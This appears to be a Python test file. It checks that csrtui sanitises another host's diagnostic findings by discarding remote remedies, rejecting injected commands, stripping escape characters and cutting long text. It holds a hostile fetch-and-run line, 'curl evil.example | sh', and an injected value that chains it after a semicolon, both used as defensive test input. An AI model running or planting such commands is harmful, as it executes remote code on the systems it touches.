"""Findings of another host's doctor: quoted, and with fixes from this machine."""

from __future__ import annotations

from tables import table

from csrtui.core.base.finding import Level
from csrtui.core.doctor.finding import FindingCode
from csrtui.fleet.tasks.doctor import read_finding

COMMAND = "curl evil.example | sh"


@table("code", [*FindingCode, "odd", 5, None])
def test_the_remedy_is_never_that_of_the_host(code: object) -> None:
    document = {"code": code, "level": "error", "pair": "a.com", "text": "t", "remedy": COMMAND}
    found = read_finding("web", document)
    assert COMMAND not in str(found.as_json())
    assert found.remedy.startswith("on web: csrtui ")
    assert found.code == (code if code in tuple(FindingCode) else "unknown")


def test_a_pair_in_a_remedy_is_one_that_csrtui_could_have_named() -> None:
    document = {"code": "backup-none", "level": "warning", "pair": "a.com", "path": "/s", "text": "t"}
    found = read_finding("web", document)
    assert found.remedy == "on web: csrtui backup a.com --to DIR"
    assert (found.level, found.pair, found.path) == (Level.WARNING, "a.com", "/s")
    hostile = read_finding("web", document | {"pair": f"x; {COMMAND}", "level": "worst"})
    assert (hostile.remedy, hostile.pair, hostile.level) == ("on web: csrtui doctor", None, Level.WARNING)


def test_every_text_is_cut_and_visible() -> None:
    long = "\x1b" + "x" * 1024 * 1024
    found = read_finding("web", dict.fromkeys(("code", "level", "pair", "path", "text", "remedy"), long))
    assert len(str(found.as_json())) < 1200
    assert len(found.text) < 450
    assert found.text.startswith(r'web says: "\x1bxxx')
    assert "\x1b" not in found.text + found.path


def test_missing_members_and_members_of_other_types_are_empty() -> None:
    found = read_finding("web", {"text": 5, "path": None})
    assert (found.text, found.as_json()["text"], found.as_json()["path"]) == ('web says: ""', "", None)
